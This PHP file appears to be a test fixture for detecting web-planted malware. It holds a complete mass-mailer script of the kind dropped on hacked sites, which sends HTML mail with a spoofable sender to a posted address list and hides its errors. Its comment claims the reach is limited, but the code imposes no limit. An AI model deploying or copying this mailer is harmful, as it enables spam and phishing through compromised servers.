<?php
/* Test sample: a mass mailer of the kind that is dropped into hacked sites. Written for
 * these tests; it can only reach what the test's own mail system lets it reach. */
@set_time_limit(0);
@ini_set('memory_limit', '-1');
@ignore_user_abort(true);
@error_reporting(0);

if (isset($_POST['emaillist'])) {
	$list = explode("\n", $_POST['emaillist']);
	$sender = $_POST['from'];
	$subject = base64_decode($_POST['subject']);
	$message = stripslashes($_POST['message']);
	$total = count($list);
	$x = 0;
	foreach ($list as $to) {
		$to = trim($to);
		$x++;
		$head = "From: \"$_POST[realname]\" <$sender>\r\nReply-To: $sender\r\n";
		$head .= "MIME-Version: 1.0\r\nContent-Type: text/html\r\nX-Mailer: PHP/" . phpversion();
		$body = str_replace('[-email-]', $to, $message) . "\n<!-- " . md5($to . $x) . ' -->';
		if (mail($to, $subject, $body, $head))
			echo "$x/$total $to sent\n";
		else
			echo "$x/$total $to FAILED\n";
		flush();
	}
	exit;
}
?>
<form method="post"><input name="from"><input name="realname"><input name="subject">
<textarea name="message"></textarea><textarea name="emaillist"></textarea>
<input type="submit" value="Send eMails"></form>
